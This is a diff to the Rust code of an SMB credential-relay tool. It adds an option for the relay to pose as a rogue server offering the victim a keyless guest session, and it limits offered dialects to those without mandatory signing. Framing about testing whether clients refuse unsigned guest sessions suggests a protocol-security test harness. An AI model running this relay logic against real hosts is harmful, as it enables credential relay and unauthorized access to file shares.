@@ -23,7 +23,7 @@ use smb_core::messages::negotiate::{
     Guid, HashAlgorithm, NegotiateContext, NegotiateContextType, NegotiateRequest,
     NegotiateResponse,
 };
-use smb_core::messages::session_setup::{SessionSetupRequest, SessionSetupResponse};
+use smb_core::messages::session_setup::{session_flags, SessionSetupRequest, SessionSetupResponse};
 use smb_core::messages::smb1_negotiate::{is_smb1, Smb1Negotiate};
 use smb_core::messages::tree_connect::{TreeConnectRequest, TreeConnectResponse};
 use smb_core::messages::{build, EncodeBody};
@@ -95,8 +95,30 @@ pub struct RelayOptions {
     pub action: RelayAction,
     /// Source address of the relay's connection to the target (loopback), if not the default.
     pub source: Option<IpAddr>,
-    /// Dialects the relay offers the target (all five by default).
+    /// Dialects the relay offers the target.
     pub dialects: Vec<Dialect>,
+    /// What the victim is told once its credentials have been relayed.
+    pub victim_reply: VictimReply,
+}
+
+/// What the relay tells the victim after relaying its AUTHENTICATE.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum VictimReply {
+    /// STATUS_LOGON_FAILURE: the victim sees a failed logon.
+    #[default]
+    LogonFailure,
+    /// SUCCESS with SMB2_SESSION_FLAG_IS_GUEST: a rogue server offering a guest session
+    /// (which has no key, so cannot be signed).
+    Guest,
+}
+
+impl RelayOptions {
+    /// What a relay tool offers by default: 2.0.2 to 3.0.2. A 3.1.1 target requires a
+    /// signed TREE_CONNECT from every authenticated user (MS-SMB2 3.3.5.7), which the relay
+    /// cannot produce, so offering 3.1.1 would only get the relayed session dropped.
+    pub const DEFAULT_DIALECTS: [Dialect; 4] =
+        [Dialect::SMB202, Dialect::SMB21, Dialect::SMB30, Dialect::SMB302];
 }
 
 impl RelayOptions {
@@ -106,7 +128,8 @@ impl RelayOptions {
             share: share.to_string(),
             action: RelayAction::default(),
             source: None,
-            dialects: Dialect::ALL.to_vec(),
+            dialects: Self::DEFAULT_DIALECTS.to_vec(),
+            victim_reply: VictimReply::LogonFailure,
         }
     }
 }
@@ -157,6 +180,8 @@ pub struct RelayAttempt {
     pub stopped_at: Option<StopPoint>,
     /// The status the victim got for its SESSION_SETUP.
     pub victim_told: Option<String>,
+    /// With [`VictimReply::Guest`]: what the victim did after being offered a guest session.
+    pub victim_after_guest: Option<String>,
     pub steps: Vec<Step>,
     /// A transport or protocol error that ended the attempt.
     pub error: Option<String>,
@@ -358,9 +383,33 @@ async fn run(
     attempt.auth_response_signed = target.last_response_signed;
 
     // The victim only ever sees a failed logon.
-    let told = if attempt.auth_accepted { NtStatus::LOGON_FAILURE } else { status };
-    victim.send_error(&h2, told, victim_session_id).await?;
-    attempt.victim_told = Some(told.to_string());
+    match opts.victim_reply {
+        VictimReply::Guest => {
+            // A rogue server: "you are logged on as guest", a session with no key.
+            let mut h = h2.response(NtStatus::SUCCESS);
+            h.session_id = victim_session_id;
+            let resp = SessionSetupResponse {
+                session_flags: session_flags::IS_GUEST,
+                security_buffer: gss::wrap_accept_completed(&first_token.wrapping),
+            };
+            victim.send(&build(&h, &resp)).await?;
+            attempt.victim_told = Some("SUCCESS (guest session)".into());
+            // See what the victim does with it: a client that requires signing must refuse.
+            attempt.victim_after_guest = Some(match victim.recv().await {
+                Ok(m) => Header::parse(&m).map_or_else(
+                    |_| "sent a malformed message".to_string(),
+                    |h| format!("sent {} (it accepted the guest session)", h.command),
+                ),
+                Err(e) => format!("sent nothing more ({e:#})"),
+            });
+        }
+        VictimReply::LogonFailure => {
+            // The victim only ever sees a failed logon.
+            let told = if attempt.auth_accepted { NtStatus::LOGON_FAILURE } else { status };
+            victim.send_error(&h2, told, victim_session_id).await?;
+            attempt.victim_told = Some(told.to_string());
+        }
+    }
     drop(victim);
     if !attempt.auth_accepted {
         return Ok(());
